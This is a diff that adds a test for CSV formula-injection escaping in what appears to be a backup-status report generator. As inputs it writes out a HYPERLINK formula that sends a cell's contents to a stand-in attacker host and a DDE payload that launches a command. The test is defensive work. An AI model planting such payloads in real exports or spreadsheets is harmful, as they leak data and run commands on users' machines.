@@ -146,6 +146,24 @@ test('CSV quotes what needs quoting', () => {
   assert.ok(rows.some((r) => r.startsWith('"carol, ""the boss""",failing,')));
 });
 
+test('CSV: a text cell a spreadsheet would run as a formula (= + - @, tab, CR first) gets a leading \' and quotes', () => {
+  const cells = (userid: string, error: string) => {
+    const r = buildReport({ coverage: 'complete', users: [user(userid, 'failing', 30 * H, { error })] }, { now: NOW, maxAge: MAX_AGE });
+    return writeReportCsv(r).split('\r\n')[1]!;
+  };
+  for (const first of ['=', '+', '-', '@', '\t', '\r']) {
+    const formula = `${first}HYPERLINK("http://evil.example/?"&A1,"x")`;
+    const row = cells(formula, `${first}cmd|' /C calc'!A0`);
+    const quoted = (text: string) => `"'${text.replace(/"/g, '""')}"`;
+    assert.ok(row.startsWith(`${quoted(formula)},failing,`), JSON.stringify(row));
+    assert.ok(row.endsWith(`,${quoted(`${first}cmd|' /C calc'!A0`)}`), JSON.stringify(row));
+  }
+  assert.ok(cells('anne-marie', 'a-b').startsWith('anne-marie,failing,'), 'not at the start: as it was');
+  assert.ok(cells('anne-marie', 'a-b').endsWith(',a-b'));
+  const negativeAge = buildReport({ coverage: 'complete', users: [user('anne', 'fresh', -30_000)] }, { now: NOW, maxAge: MAX_AGE });
+  assert.equal(writeReportCsv(negativeAge).split('\r\n')[1]!.split(',')[5], '-30', 'a number stays a number');
+});
+
 test('Prometheus text has the per-state gauge and the oldest age', async () => {
   const text = await writeReportPrometheus(report);
   assert.match(text, /^# TYPE xbackup_users gauge$/m);
